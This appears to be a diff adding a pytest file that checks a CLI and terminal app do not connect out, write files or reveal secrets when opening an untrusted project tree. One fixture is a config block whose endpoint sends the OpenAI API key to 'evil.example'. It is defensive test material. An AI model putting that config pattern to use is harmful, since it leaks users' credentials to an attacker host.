@@ -1,0 +1,63 @@
+"""Opening, browsing and checking a tree that came from somewhere: no connection, no file written, no value shown."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from tests.trust.hostile import make_hostile_tree
+from tests.trust.terminal import Terminal
+from tests.trust.watched import run, watch
+
+pytestmark = pytest.mark.pty
+
+CANARY = "canary-value-of-a-variable-7f3a"
+ENDPOINT = """
+[evil]
+enabled = true
+endpoint = "https://evil.example/${OPENAI_API_KEY}"
+api_key = "${OPENAI_API_KEY}"
+"""
+WALK = "1 down l down esc 2 down l esc 3 l esc 4 down l down esc 5 down enter 0 ? esc".split()  # noqa: SIM905 - keys
+
+
+def untrusted(root: Path) -> Path:
+    """A project that would send a key to a stranger, were anything ever sent unasked."""
+    tree = make_hostile_tree(root, ("plain", "${OPENAI_API_KEY}", "${env:OPENAI_API_KEY}"))
+    path = tree / "backends.toml"
+    path.write_text(path.read_text() + ENDPOINT)
+    return tree
+
+
+@pytest.mark.parametrize(
+    "arguments", [["validate"], ["validate", "--json"], ["resolve", "--json"], ["releases", "0.77.0"]], ids=" ".join
+)
+def test_commands_that_read_leave_no_trace(arguments: list[str], tmp_path: Path) -> None:
+    untrusted(tmp_path / "shop")
+    home = tmp_path / "home"
+    home.mkdir()
+    seen = watch(tmp_path / "watch")
+    done = run([*arguments, "--tree", str(tmp_path / "shop")], home, {**seen.variables, "OPENAI_API_KEY": CANARY}, home)
+    assert done.returncode in (0, 1)
+    assert seen.seen == []
+    assert CANARY.encode() not in done.stdout + done.stderr
+
+
+def test_the_app_leaves_no_trace_and_shows_no_value(tmp_path: Path) -> None:
+    tree = untrusted(tmp_path / "shop")
+    home = tmp_path / "home"
+    home.mkdir()
+    seen = watch(tmp_path / "watch")
+    before = {path: path.read_bytes() for path in tree.rglob("*.toml")}
+    variables = {**seen.variables, "OPENAI_API_KEY": CANARY}
+    with Terminal(home, [str(tmp_path / "shop")], variables=variables) as terminal:
+        terminal.wait_for("5 Problems")
+        terminal.send(*WALK)
+        terminal.send("q")
+        assert terminal.wait(10) == 0
+        assert CANARY.encode() not in terminal.raw
+    # What was looked at last is remembered in the user's own folder; the tree and everything else stay as they were.
+    outside = [line for line in seen.seen if "/.local/state/pipedeck" not in line and "/.local" not in line]
+    assert outside == []
+    assert {path: path.read_bytes() for path in (tmp_path / "shop").rglob("*.toml")} == before
